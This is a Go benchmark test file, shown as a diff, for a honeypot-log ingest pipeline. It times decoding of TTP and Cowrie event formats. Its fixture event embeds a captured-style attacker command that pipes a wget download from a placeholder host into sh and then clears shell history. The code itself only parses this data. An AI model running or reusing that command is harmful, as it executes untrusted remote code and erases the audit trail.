@@ -1,0 +1,103 @@
+package ingest
+
+import (
+	"bytes"
+	"fmt"
+	"strings"
+	"testing"
+
+	"ttpctl/internal/engine"
+)
+
+// eventLine returns a ready-made event of 423 bytes with 70 bytes of command
+// text, the average of PERF.md.
+func eventLine(n int) string {
+	l := fmt.Sprintf(`{"source_kind":"command","source_id":"sess-%08d#cmd1","attacker_uuid":"3a90f681-a007-5d06-8036-a9c1661decb1","identity_uuid":null,"session_id":"sess-%08d","decky_id":"decky-07","ts":"2026-03-18T10:26:59.715732Z","payload":{"command_text":"cd /tmp && wget http://203.0.113.9/x.sh -O- | sh; history -c; ls -la /","uid":0,"user":"root","pwd":"/root","src":"203.0.113.9","service":"ssh","sensor_build":"`, n, n)
+	return l + strings.Repeat("x", 423-len(l)-len(`"}}`)) + `"}}`
+}
+
+// filled returns a batch of the given lines, not decoded yet.
+func filled(f format, lines ...string) *Batch {
+	b := &Batch{File: "test", format: &f, first: 1, ready: make(chan struct{}, 1)}
+	for _, l := range lines {
+		start := len(b.buf)
+		b.buf = append(append(b.buf, l...), '\n')
+		b.addLine(start, start+len(l), "")
+	}
+	return b
+}
+
+func BenchmarkDecodeTTP(bm *testing.B) {
+	var lines []string
+	for n := range 300 {
+		lines = append(lines, eventLine(n))
+	}
+	b := filled(ttpFormat(), lines...)
+	d := newTTPDecoder(engine.AllFields())
+	bm.SetBytes(int64(len(lines[0])))
+	bm.ReportAllocs()
+	for done := 0; done < bm.N; done += len(lines) {
+		for i := range b.lines {
+			b.lines[i].fate = pending
+		}
+		b.events = b.events[:0]
+		b.decode(d, false)
+	}
+	if len(b.events) != len(lines) {
+		bm.Fatalf("decoded %d events of %d lines", len(b.events), len(lines))
+	}
+}
+
+func BenchmarkDecodeCowrie(bm *testing.B) {
+	const l = `{"eventid":"cowrie.command.input","input":"uname -a; cat /proc/cpuinfo","message":"CMD: uname -a; cat /proc/cpuinfo","sensor":"ip-192-0-2-7","uuid":"ae0aab00-22b0-11f1-b096-0affcd2dea01","timestamp":"2026-03-18T13:28:51.360735Z","src_ip":"203.0.113.9","session":"986d134d7985","protocol":"ssh"}`
+	b := filled(cowrieFormat(), slicesRepeat(l, 300)...)
+	d, a := b.format.newDecoder(nil), b.format.newAssembler()
+	bm.SetBytes(int64(len(l)))
+	bm.ReportAllocs()
+	for done := 0; done < bm.N; done += len(b.lines) {
+		for i := range b.lines {
+			b.lines[i].fate = pending
+		}
+		b.events = b.events[:0]
+		b.decode(d, false)
+		b.assemble(a, false)
+	}
+	if len(b.events) != len(b.lines) {
+		bm.Fatalf("made %d events of %d lines", len(b.events), len(b.lines))
+	}
+}
+
+func slicesRepeat(s string, n int) []string {
+	ss := make([]string, n)
+	for i := range ss {
+		ss[i] = s
+	}
+	return ss
+}
+
+// noRules evaluates nothing.
+type noRules struct{}
+
+func (noRules) Evaluate(dst []engine.Tag, _ *engine.Event) []engine.Tag { return dst }
+
+func BenchmarkRun(bm *testing.B) {
+	var log bytes.Buffer
+	for n := range 20_000 {
+		log.WriteString(eventLine(n))
+		log.WriteByte('\n')
+	}
+	for _, workers := range []int{1, 2} {
+		bm.Run(fmt.Sprintf("workers=%d", workers), func(bm *testing.B) {
+			bm.SetBytes(int64(log.Len()))
+			bm.ReportAllocs()
+			for bm.Loop() {
+				a, err := Run(bm.Context(), []Input{{Name: "log", Reader: bytes.NewReader(log.Bytes())}}, Config{Workers: workers},
+					func() Evaluator { return noRules{} }, func(*Batch) error { return nil })
+				if err != nil || a.Events != 20_000 {
+					bm.Fatalf("Run() = %d events, %v", a.Events, err)
+				}
+			}
+			bm.ReportMetric(20_000*float64(bm.N)/bm.Elapsed().Seconds(), "events/s")
+		})
+	}
+}
